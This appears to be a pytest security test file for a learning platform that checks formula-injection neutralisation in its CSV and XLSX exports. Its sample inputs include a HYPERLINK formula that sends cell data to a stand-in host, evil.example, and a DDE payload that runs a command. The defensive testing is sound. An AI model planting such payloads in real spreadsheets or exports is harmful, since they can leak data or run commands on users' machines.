"""CSV (formula) injection: text a spreadsheet would run is neutralised in every export.

Values starting with =, +, -, @, tab or carriage return get a leading apostrophe in CSV; in
XLSX they are stored as text cells, never formulas. Exports: the five reports (CSV and XLSX),
the organisation tree (`learn orgs export`), the activation links of an import (web download
and `learn users import --links`), the import template.
"""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import assume, given
from hypothesis import strategies as st
from sqlalchemy import select

from learn.courses.models import Course, Quiz
from learn.db import transaction, utcnow
from learn.orgs.csvfile import escape_cell, read_csv, write_csv
from learn.orgs.models import Assignment, OrgUnit
from learn.quiz import services as quizzes
from learn.reports.export_csv import neutralise
from tests.security.conftest import sign_in
from tests.security.spreadsheets import (
    FORMULA_STARTS,
    csv_cells,
    runnable_csv_cells,
    xlsx_cells,
)
from tests.security.world import EMAILS, publish_tree

FORMULAS = [
    "=1+2",
    '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
    "=cmd|' /C calc'!A0",
    "+1+2",
    "-1+2",
    "@SUM(1,2)",
    "=1+2 Phòng Văn hoá",
    "+84 912 345 678",
]
FORMULA_EMAILS = ["=1+2@example.org", "+dde@example.org", "-x@example.org"]
REPORTS = ["/reports/orgs/export?format={f}", "/reports/orgs/export?format={f}&unit={A}",
           "/reports/people/export?format={f}&unit={A}",
           "/reports/courses/cong-thuc/export?format={f}",
           "/reports/courses/cong-thuc/items/export?format={f}",
           "/reports/indicators/export?format={f}"]


def _csv_bytes(rows: list[list[str]]) -> bytes:
    out = io.StringIO()
    csv.writer(out, lineterminator="\r\n").writerows(rows)
    return out.getvalue().encode("utf-8")


def _formula_course(root) -> None:
    folder = root / "cong-thuc"
    folder.mkdir(parents=True)
    (folder / "course.md").write_text(
        '---\ntitle: "=1+2 khoá học"\nsummary: "@SUM(1,2)"\n'
        'authors: ["trainer@example.org"]\n---\n\nGiới thiệu.\n', encoding="utf-8")
    options = "\n".join(f'      - text: "{f}"\n        feedback: "Sai."' for f in
                        ("=1+2", "+1+2", "@SUM(1,2)"))
    (folder / "01-kiem-tra.md").write_text(
        '---\ntitle: "-1+2 bài kiểm tra"\n---\n\n```quiz\nid: cong-thuc\nquestions:\n'
        '  - id: q-cong-thuc\n    type: single\n    prompt: "Chọn một."\n    options:\n'
        '      - text: "-1+2"\n        correct: true\n        feedback: "Đúng."\n'
        f"{options}\n```\n", encoding="utf-8")


@pytest.fixture
def formulas(sec_app, world, runner, tmp_path):
    """Units, people (with emails) and a course whose texts start like formulas."""
    units = [["code", "name", "kind", "parent_code"]]
    units += [[f"F{n}", name, "commune", "A"] for n, name in enumerate(FORMULAS)]
    (tmp_path / "units.csv").write_bytes(_csv_bytes(units))
    assert runner.invoke(["orgs", "import", str(tmp_path / "units.csv")]).exit_code == 0
    people = [["email", "full_name", "unit_code", "position"]]
    people += [[f"cong.thuc.{n}@example.org", name, f"F{n}", name]
               for n, name in enumerate(FORMULAS)]
    people += [[email, "Người Thử", "F0", ""] for email in FORMULA_EMAILS]
    admin = sign_in(sec_app, EMAILS["admin"])
    preview = admin.post("/admin/users/import", data={
        "file": (io.BytesIO(_csv_bytes(people)), "people.csv")},
        content_type="multipart/form-data").get_data(as_text=True)
    token = preview.split('name="token"', 1)[1].split('value="', 1)[1].split('"', 1)[0]
    done = admin.post("/admin/users/import/apply", data={"token": token})
    assert done.status_code == 200
    _formula_course(tmp_path / "extra")
    assert publish_tree(sec_app, tmp_path / "extra" / "cong-thuc").ok
    with transaction(sec_app) as session:
        course = session.scalar(select(Course).where(Course.slug == "cong-thuc"))
        district = session.scalar(select(OrgUnit).where(OrgUnit.code == "A"))
        session.add(Assignment(course_id=course.id, org_unit_id=district.id, audience="all"))
        quiz = session.scalar(select(Quiz).where(Quiz.key == "cong-thuc"))
        attempt = quizzes.start_attempt(session, world.users["learner"], quiz.id, utcnow())
        quizzes.submit_attempt(session, attempt.id, world.users["learner"],
                               {1: {"choice": "o2"}}, utcnow())
    return {"admin": admin, "upload": world.ids["upload"] + 1}


def _present(cells: list[str], values: list[str]) -> list[str]:
    """The values that appear in some cell, neutralised or not."""
    return [v for v in values if any(v in cell for cell in cells)]


def test_report_csv_exports_neutralise_formulas(sec_app, world, formulas):
    admin = formulas["admin"]
    seen: list[str] = []
    for template in REPORTS:
        url = template.format(f="csv", A=world.units["A"])
        response = admin.get(url)
        assert response.status_code == 200, url
        cells = csv_cells(response.get_data())
        assert runnable_csv_cells(response.get_data()) == [], url
        seen += _present(cells, FORMULAS + FORMULA_EMAILS)
    # The test is only worth something if the values reached the files.
    assert set(FORMULAS + FORMULA_EMAILS) <= set(seen)


def test_report_xlsx_exports_hold_text_never_formulas(sec_app, world, formulas):
    admin = formulas["admin"]
    texts: list[str] = []
    for template in REPORTS:
        url = template.format(f="xlsx", A=world.units["A"])
        response = admin.get(url)
        assert response.status_code == 200, url
        cells = xlsx_cells(response.get_data())
        assert [c for c in cells if c.formula is not None] == [], url
        risky = [c for c in cells if c.text.startswith(FORMULA_STARTS) and c.type == "str"]
        assert risky == [], url
        texts += [c.text for c in cells if c.type in ("s", "inlineStr")]
    assert set(FORMULAS) <= set(texts)
    assert set(FORMULA_EMAILS) <= set(texts)


def test_orgs_export_neutralises_unit_names(sec_app, world, formulas, runner, tmp_path):
    target = tmp_path / "tree.csv"
    result = runner.invoke(["orgs", "export", "--output", str(target)])
    assert result.exit_code == 0, result.output
    data = target.read_bytes()
    assert runnable_csv_cells(data) == []
    assert {f"'{name}" for name in FORMULAS if name.startswith(FORMULA_STARTS)} <= set(
        csv_cells(data))
    # What is exported imports back unchanged (the apostrophe is taken off again).
    names = [row.get("name") for row in read_csv(data).rows]
    assert set(FORMULAS) <= set(names)


def test_activation_links_download_neutralises_names_and_emails(sec_app, world, formulas):
    response = formulas["admin"].post(f"/admin/users/import/{formulas['upload']}/links.csv")
    assert response.status_code == 200
    data = response.get_data()
    assert runnable_csv_cells(data) == []
    cells = csv_cells(data)
    assert "'=1+2@example.org" in cells and "'=cmd|' /C calc'!A0" in cells


def test_activation_links_file_of_the_command_neutralises(sec_app, runner, tmp_path, world):
    people = [["email", "full_name"], *[[e, f] for e, f in zip(FORMULA_EMAILS, FORMULAS,
                                                               strict=False)]]
    (tmp_path / "people.csv").write_bytes(_csv_bytes(people))
    links = tmp_path / "links.csv"
    result = runner.invoke(["users", "import", str(tmp_path / "people.csv"), "--links",
                            str(links)])
    assert result.exit_code == 0, result.output
    assert runnable_csv_cells(links.read_bytes()) == []
    assert "'=1+2@example.org" in csv_cells(links.read_bytes())


def test_the_import_template_is_inert(sec_app, world):
    admin = sign_in(sec_app, EMAILS["admin"])
    assert runnable_csv_cells(admin.get("/admin/users/import/template.csv").get_data()) == []


@given(st.text(max_size=40))
def test_escaped_cells_never_start_a_formula(text):
    for escape in (escape_cell, neutralise):
        assert not escape(text).startswith(FORMULA_STARTS)


@given(st.text(max_size=40))
def test_exported_cells_read_back_as_they_were(text):
    # Known and harmless: the importer trims cells, drops a leading BOM, and takes an
    # apostrophe before a formula character for its own escape.
    assume(text.strip() and "\x00" not in text and not text.startswith("\ufeff"))
    assume(not (text.strip().startswith("'") and text.strip()[1:2].startswith(FORMULA_STARTS)))
    data = write_csv(("name",), [(text,)], bom=True).encode("utf-8")
    expected = text.rstrip() if text.startswith(FORMULA_STARTS) else text.strip()
    assert read_csv(data).rows[0].get("name") == expected


def test_downloads_are_attachments_no_browser_renders(sec_app, world, formulas):
    # A name full of markup inside a CSV must never be rendered as a page: every download is
    # an attachment of its real type, never sniffed, never cached.
    admin = formulas["admin"]
    responses = {url: admin.get(url.format(f=fmt, A=world.units["A"]))
                 for url in REPORTS for fmt in ("csv", "xlsx")}
    responses["links"] = admin.post(f"/admin/users/import/{formulas['upload']}/links.csv")
    responses["template"] = admin.get("/admin/users/import/template.csv")
    responses["my data"] = admin.get("/account/data.json")
    for name, response in responses.items():
        assert response.status_code == 200, name
        assert response.mimetype in ("text/csv", "application/json",
                                     "application/vnd.openxmlformats-officedocument."
                                     "spreadsheetml.sheet"), (name, response.mimetype)
        assert response.headers["Content-Disposition"].startswith("attachment"), name
        assert response.headers["X-Content-Type-Options"] == "nosniff", name
        assert "no-store" in response.headers.get("Cache-Control", ""), name
